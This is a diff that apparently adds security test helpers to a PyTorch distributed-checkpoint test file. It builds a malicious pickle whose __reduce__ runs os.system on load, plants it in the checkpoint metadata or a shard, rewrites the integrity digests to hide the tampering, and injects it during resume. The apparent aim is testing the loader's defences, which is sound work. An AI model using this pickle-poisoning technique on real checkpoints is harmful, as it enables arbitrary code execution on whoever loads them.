@@ -48,3 +48,66 @@ def initial_model(cfg: dict) -> dict[str, torch.Tensor]:
     data = build(run_cfg.data.node, {"seed": run_cfg.seed})
     model = build(run_cfg.model.node, data.sizes)
     return {k: v.detach() for k, v in model.state_dict().items()}
+
+
+# --- a planted pickle: what someone who can write the run's checkpoint dir could do ---------------
+class Payload:
+    """Unpickled, it runs `touch <target>`."""
+
+    def __init__(self, target: str):
+        self.target = target
+
+    def __reduce__(self):
+        import os
+
+        return (os.system, (f"touch {self.target}",))
+
+
+def reseal(ckpt: Path) -> None:
+    """Rewrite the sidecar's digests for what `ckpt` now holds (the attacker can write it too)."""
+    import json
+
+    side = ckpt.with_suffix(".json")
+    meta = json.loads(side.read_text())
+    meta["bytes"], meta["sha256"], meta["files"] = checkpoint.digest(ckpt)
+    side.write_text(json.dumps(meta))
+
+
+def plant(ckpt: Path, kind: str, target: str) -> None:
+    """kind "metadata": the payload as DCP's .metadata; "value": the payload as the value of
+    the optimizer's lr, appended to a shard file, with a legitimate index pointing at it."""
+    import dataclasses
+    import io
+    import pickle
+
+    if kind == "metadata":
+        (ckpt / ".metadata").write_bytes(pickle.dumps(Payload(target)))
+    else:
+        meta = pickle.loads((ckpt / ".metadata").read_bytes())
+        buf = io.BytesIO()
+        torch.save(Payload(target), buf)
+        shard = ckpt / "__0_0.distcp"
+        offset = shard.stat().st_size
+        with open(shard, "ab") as f:
+            f.write(buf.getvalue())
+        for index, info in meta.storage_data.items():
+            if index.fqn == "optimizer.param_groups.0.lr":
+                meta.storage_data[index] = dataclasses.replace(
+                    info, relative_path=shard.name, offset=offset, length=len(buf.getvalue()))
+        (ckpt / ".metadata").write_bytes(pickle.dumps(meta))
+    reseal(ckpt)
+
+
+def resume_planted(cfg: dict, run_dir: str, ckpt: str, kind: str, target: str) -> str:
+    """Resume from `ckpt` (intact when the job checks it), with the payload planted by rank 0
+    once the ranks have started, before any reads it; returns this rank's error."""
+    def poison(p):
+        if dist.get_rank() == 0:
+            plant(Path(ckpt), kind, target)
+        return p  # the others wait for rank 0 in the resume's broadcast
+
+    try:
+        dist_cases.run_training_with(poison, cfg | {"resume": ckpt}, run_dir)
+    except Exception as e:
+        return f"{type(e).__name__}: {e}"
+    return "resumed"
